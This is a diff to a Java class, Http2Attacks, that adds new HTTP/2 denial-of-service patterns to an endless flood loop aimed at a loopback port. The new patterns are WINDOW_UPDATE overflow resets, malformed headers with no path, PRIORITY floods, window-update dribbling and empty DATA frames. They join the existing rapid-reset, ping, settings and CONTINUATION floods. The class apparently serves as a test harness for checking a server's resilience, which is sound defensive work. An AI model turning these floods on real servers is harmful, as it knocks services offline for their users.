@@ -27,10 +27,13 @@ public final class Http2Attacks {
     private static final byte[] NOTHING = {};
     private static final int FRAMES_AT_ONCE = 100;
 
+    private static final int DATA = 0;
     private static final int HEADERS = 1;
+    private static final int PRIORITY = 2;
     private static final int RST_STREAM = 3;
     private static final int SETTINGS = 4;
     private static final int PING = 6;
+    private static final int WINDOW_UPDATE = 8;
     private static final int CONTINUATION = 9;
     private static final int END_STREAM = 1;
     private static final int END_HEADERS = 4;
@@ -38,6 +41,9 @@ public final class Http2Attacks {
 
     /** GET / of the host a, in HPACK without a table: each byte may stand in a frame of its own. */
     private static final byte[] REQUEST = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x01, 0x01, 'a'};
+
+    /** The same without a path. */
+    private static final byte[] MALFORMED = {(byte) 0x82, (byte) 0x86, 0x01, 0x01, 'a'};
 
     private Http2Attacks() {}
 
@@ -55,13 +61,14 @@ public final class Http2Attacks {
 
     private static void attack(String kind, int port) {
         boolean stalls = kind.equals("windows");
+        int window = stalls || kind.equals("dribble") ? 0 : 65_535;
         while (true) {
             try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
                 OutputStream out = socket.getOutputStream();
                 out.write(PREFACE);
-                out.write(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, stalls ? 0 : 65_535)));
+                out.write(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, window)));
                 if (stalls) {
-                    out.write(frames(i -> frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, REQUEST), 0));
+                    out.write(frames(i -> request(2 * i + 1), 0));
                     Thread.sleep(Duration.ofMillis(300));
                     continue;
                 }
@@ -79,15 +86,31 @@ public final class Http2Attacks {
 
     private static IntFunction<byte[]> frameOf(String kind) {
         return switch (kind) {
-            case "resets" ->
-                i -> both(
-                        frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, REQUEST),
-                        frame(RST_STREAM, 0, 2 * i + 1, number(8)));
+            case "resets" -> i -> both(request(2 * i + 1), frame(RST_STREAM, 0, 2 * i + 1, number(8)));
+            case "made-resets" ->
+                i -> both(request(2 * i + 1), frame(WINDOW_UPDATE, 0, 2 * i + 1, number(Integer.MAX_VALUE)));
+            case "malformed" -> i -> frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, MALFORMED);
             case "settings" -> _ -> frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535));
             case "pings" -> _ -> frame(PING, 0, 0, new byte[8]);
+            case "priorities" -> i -> frame(PRIORITY, 0, 2 * i + 1, new byte[5]);
+            case "dribble" ->
+                i -> i % 100 == 0 ? request(streamOf(i)) : frame(WINDOW_UPDATE, 0, streamOf(i), number(1));
+            case "empty-data" ->
+                i -> i % 100 == 0
+                        ? frame(HEADERS, END_HEADERS, streamOf(i), REQUEST)
+                        : frame(DATA, 0, streamOf(i), NOTHING);
             case "continuations" -> i -> crumbs(2 * i + 1);
             default -> throw new IllegalArgumentException("no attack is called " + kind);
         };
+    }
+
+    /** Where a stream has 100 frames. */
+    private static int streamOf(int frame) {
+        return frame / 100 * 2 + 1;
+    }
+
+    private static byte[] request(int stream) {
+        return frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
     }
 
     /** A request whose every byte comes in a frame of its own. */
